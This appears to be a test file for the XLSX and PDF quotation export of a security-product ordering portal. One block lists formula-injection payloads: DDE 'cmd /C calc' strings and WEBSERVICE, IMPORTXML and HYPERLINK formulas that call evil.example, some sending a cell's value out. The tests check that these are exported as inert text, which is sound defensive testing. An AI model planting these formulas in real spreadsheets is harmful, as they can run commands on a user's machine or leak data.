import { addSelection, exportDesignOrder, generateOrder, getDesignOrder, getSelection, saveSelection, type DesignOrder } from '@portal/contract/design-order';
import { amountInWords, totalsOf } from '@portal/engines/pricing';
import { formatYuan } from '@portal/units';
import type { Call } from '@portal/client';
import { aSku } from '@portal/testkit/goods';
import { anInstaller } from '@portal/testkit/people';
import { openTestPortal, type TestPortal } from '@portal/testkit/portal';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pdfWords } from '@portal/testkit/pdf-words';
import { quotationOf } from './quotation.ts';
import render from './render-worker.ts';

let portal: TestPortal;
beforeAll(async () => void (portal = await openTestPortal()));
afterAll(() => portal.close());

interface Line {
  price: number | null;
  rate?: number;
  ratePrice?: number;
  quantity: number;
  spuName?: string;
  skuType?: 0 | 2;
}
interface Made {
  order: DesignOrder;
  cookie: string;
  /** What the list showed before it became an order. */
  screen: DesignOrder['totals'];
}

let keys = 0;
/** An order made of lines the way a person makes it: add, edit, generate. */
async function anOrder(lines: readonly Line[], head: { name?: string; remark?: string } = {}): Promise<Made> {
  const { accountNo } = await anInstaller(portal.database);
  const call: Call = await portal.as(accountNo);
  const wishes = new Map<string, Line>();
  for (const { price, skuType = 0, spuName, ...line } of lines)
    wishes.set((await aSku(portal.database, { price, skuType, ...(spuName === undefined ? {} : { spuName }) })).skuNo, { price, ...line });
  const { revision } = await call(addSelection, {
    body: { productList: [...wishes.keys()].map((skuNo) => ({ skuNo, quantity: 1 })) },
    idempotencyKey: `q-${++keys}`,
  });
  const claims = [...wishes].map(([skuNo, { rate, ratePrice, quantity }]) => ({ skuNo, rate: rate ?? 100, ratePrice: ratePrice ?? null, quantity }));
  await call(saveSelection, { body: { revision, lines: claims } });
  const shown = await call(getSelection);
  const id = await call(generateOrder, { body: { name: head.name ?? '王府小区', remark: head.remark ?? '' }, idempotencyKey: `q-${++keys}` });
  return { order: await call(getDesignOrder, { params: { id } }), cookie: await portal.cookieOf(accountNo), screen: totalsOf(shown.lines) };
}

async function exported({ order, cookie }: Made, format: 'xlsx' | 'pdf') {
  const response = await portal.portal.http.inject({
    method: 'GET',
    url: `${exportDesignOrder.path.replace(':id', order.id)}?format=${format}`,
    headers: { cookie },
  });
  expect(response.statusCode).toBe(200);
  return { bytes: new Uint8Array(response.rawPayload), headers: response.headers };
}

/** Rows under the header and the closing figures, read back from the file. */
async function sheetOf(made: Made) {
  const { bytes } = await exported(made, 'xlsx');
  const { sheets } = await readXlsx(bytes);
  const rows = sheets[0]?.rows ?? [];
  const top = rows.findIndex((row) => row[0] === '序号');
  const figure = (label: string): unknown => rows.find((row) => row[0] === label)?.[9];
  return {
    bytes,
    rows,
    header: rows[top],
    body: rows.slice(top + 1, top + 1 + made.order.lines.length),
    original: figure('原价合计'),
    preferential: figure('优惠'),
    amount: figure('总价'),
  };
}

describe('screen, order, xlsx and pdf', () => {
  it('say the same figures for any list of lines', async () => {
    const rate = fc.integer({ min: 0, max: 99_999 }).map((points) => points / 100);
    // as dear as 25 lines may be and still be added up: dear ones few, cheap ones up to 9999
    const [dear, cheap] = [
      { price: fc.constantFrom(9_999_999.99, 1_234_567.89), quantity: fc.integer({ min: 1, max: 99 }), rate },
      {
        price: fc.oneof(
          { weight: 8, arbitrary: fc.integer({ min: 1, max: 9_999_999 }).map((fen) => fen / 100) },
          { weight: 1, arbitrary: fc.constantFrom(null, 0, 0.01) },
        ),
        quantity: fc.oneof(fc.integer({ min: 1, max: 99 }), fc.constantFrom(1, 9999)),
        rate,
      },
    ];
    const line: fc.Arbitrary<Line> = fc.oneof(
      { weight: 1, arbitrary: fc.record(dear, { requiredKeys: ['price', 'quantity'] }) },
      { weight: 5, arbitrary: fc.record(cheap, { requiredKeys: ['price', 'quantity'] }) },
    );
    await fc.assert(
      fc.asyncProperty(fc.array(line, { minLength: 1, maxLength: 25 }), async (lines) => {
        const made = await anOrder(lines);
        const { order, screen } = made;
        expect(order.totals).toEqual(screen);
        expect({ originalAmount: order.originalAmount, preferential: order.preferential, amount: order.amount }).toEqual({
          originalAmount: screen.originalAmount,
          preferential: screen.preferential,
          amount: screen.amount,
        });
        expect(Math.round((order.originalAmount - order.preferential) * 100)).toBe(Math.round(order.amount * 100));

        const sheet = await sheetOf(made);
        expect([sheet.original, sheet.preferential, sheet.amount]).toEqual([order.originalAmount, order.preferential, order.amount]);
        expect(sheet.body.map((row) => row[9])).toEqual(order.lines.map((one) => one.amount));
        expect(sheet.body.map((row) => Math.round(Number(row[6]) * 10_000))).toEqual(order.lines.map((one) => Math.round(one.rate * 100)));

        const words = pdfWords((await exported(made, 'pdf')).bytes).join('');
        expect(words).toContain(
          `原价合计${formatYuan(order.originalAmount).text}优惠${formatYuan(order.preferential).text}总价${formatYuan(order.amount).text}`,
        );
        expect(words).toContain(`人民币大写：${amountInWords(order.amount)}`);
        for (const one of order.lines) expect(words).toContain(`${one.quantity}${formatYuan(one.amount).text}`);
      }),
      { numRuns: 40, seed: 20_261_121 },
    );
  }, 120_000);

  it('the sheet is a quotation: head, ten columns, figures as numbers, words as text', async () => {
    const made = await anOrder(
      [
        { price: 1234.5, rate: 95.5, quantity: 3 },
        { price: null, quantity: 2 },
        { price: 0, skuType: 2, quantity: 1 },
      ],
      { remark: '含税' },
    );
    const { rows, header, body } = await sheetOf(made);
    expect(rows[0]?.[0]).toBe('配单报价单');
    const head = rows.map((row) => row[0]);
    expect(head).toContain('配单名称：王府小区');
    expect(head).toContain('备注：含税');
    expect(header).toEqual(['序号', '产品名称', '型号', '品牌', '分类', '单价', '折扣率', '折后价', '数量', '小计']);
    const [first] = made.order.lines;
    expect(body[0]).toEqual([1, first?.productName, first?.productModel, '海康威视', '视频监控 > 网络摄像机', 1234.5, 0.955, 1178.95, 3, 3536.85]);
    expect([body[1]?.[5], body[2]?.[5]]).toEqual(['暂无价格', '免费']);
    expect(head).toContain('人民币大写：叁仟伍佰叁拾陆元捌角伍分');
  });

  it('500 lines fit both files, and every page says which of how many it is', async () => {
    const made = await anOrder(Array.from({ length: 500 }, (_, n) => ({ price: n + 0.5, quantity: (n % 9) + 1 })));
    expect((await sheetOf(made)).body).toHaveLength(500);
    const pages = pdfWords((await exported(made, 'pdf')).bytes);
    expect(pages.length).toBeGreaterThan(15);
    pages.forEach((words, index) => expect(words).toContain(`第${index + 1}/${pages.length}页`));
    expect(pages[1]).toContain('序号');
    for (const line of made.order.lines) expect(pages.join('')).toContain(line.productModel);
  });

  it('is named in Chinese, without what a file system refuses', async () => {
    const { headers } = await exported(await anOrder([{ price: 1, quantity: 1 }], { name: 'a/b:"王府"..\\' }), 'pdf');
    expect(headers['content-type']).toBe('application/pdf');
    const name = decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(String(headers['content-disposition']))?.[1] ?? '');
    expect(name).toBe('配单报价单-a_b__王府_.._-20261121.pdf');
  });

  it('says who quotes, and in a demo that goods and prices are invented', async () => {
    const { order } = await anOrder([{ price: 1, quantity: 1 }]);
    const quotation = quotationOf({ ...order, companyName: '甲安防工程有限公司', contactName: '李工' }, { now: portal.clock.now(), demo: true });
    const words = pdfWords(await render({ quotation, format: 'pdf' })).join('');
    expect(words).toContain('公司名称甲安防工程有限公司联系人李工');
    expect(words).toContain('演示数据');
    const [sheet] = (await readXlsx(await render({ quotation, format: 'xlsx' }))).sheets;
    expect(sheet?.rows.map((row) => row[0])).toEqual(
      expect.arrayContaining(['公司名称：甲安防工程有限公司', '联系人：李工', expect.stringContaining('演示数据')]),
    );
  });

  it('does not say that it is a demo where it is none', async () => {
    const made = await anOrder([{ price: 1, quantity: 1 }]);
    expect(pdfWords((await exported(made, 'pdf')).bytes).join('')).not.toContain('演示数据');
  });

  it('two files at once leave other calls answered meanwhile', async () => {
    const made = await anOrder(Array.from({ length: 200 }, () => ({ price: 9.99, quantity: 2 })));
    const call = await portal.as((await anInstaller(portal.database)).accountNo);
    const ended: string[] = [];
    const file = () => exported(made, 'pdf').finally(() => ended.push('file'));
    const other = async () => {
      for (let n = 0; n < 5; n++) await call(getSelection);
      ended.push('calls');
    };
    const [one, two] = await Promise.all([file(), file(), other()]);
    expect(ended).toEqual(['calls', 'file', 'file']);
    expect(one.bytes.length).toBe(two.bytes.length);
  });
});

describe('what a person wrote', () => {
  const PAYLOADS = [
    '=1+1',
    '=HYPERLINK("http://evil.example","点我")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '"=1+1',
    "'=1+1",
    '=1+1\n=2+2',
    ';=1+1',
    ',=1+1',
    '=_xlfn.WEBSERVICE("x")',
    '{=1+1}',
    '%0A=1+1',
    '<f>1+1</f>',
    ']]><c t="str"><f>1+1</f></c>',
    '&#61;1+1',
  ];

  it(`${PAYLOADS.length} formulas in names and remark are text cells, and read back letter by letter`, async () => {
    const made = await anOrder(
      PAYLOADS.map((spuName) => ({ price: 1, quantity: 1, spuName })),
      { name: '=1+1', remark: '@SUM(A1) =cmd' },
    );
    const { bytes, body } = await sheetOf(made);
    expect(body.map((row) => row[1])).toEqual(PAYLOADS);
    const parts = unzipSync(bytes);
    const texts = Object.entries(parts).flatMap(([name, part]) => (/\.(xml|rels)$/.test(name) ? [[name, strFromU8(part)] as const] : []));
    expect(texts.length).toBeGreaterThan(5);
    expect(texts.filter(([, xml]) => /<f[ >]|<hyperlink|externalLink|ddeLink/i.test(xml)).map(([name]) => name)).toEqual([]);
    // a cell with a value is a shared text or a number
    const cells = texts.flatMap(([name, xml]) => (name.includes('worksheets/') ? [...xml.matchAll(/<c [^>]*>(?=<v>)/g)].map(([cell]) => cell) : []));
    expect(cells.length).toBeGreaterThan(PAYLOADS.length * 9);
    expect(cells.filter((cell) => !/ t="s"/.test(cell) && !/^<c r="[A-Z]+\d+" s="\d+">$/.test(cell))).toEqual([]);
    expect(Object.keys(parts).some((name) => /vba|externalLinks|connections/i.test(name))).toBe(false);
  });

  it('letters that no XML holds do not break the file', async () => {
    const made = await anOrder([{ price: 1, quantity: 1, spuName: '坏\u0001字\uFFFE & <b>"' }]);
    expect((await sheetOf(made)).body[0]?.[1]).toBe('坏字 & <b>"');
    expect(pdfWords((await exported(made, 'pdf')).bytes).join('')).toContain('<b>');
  });
});
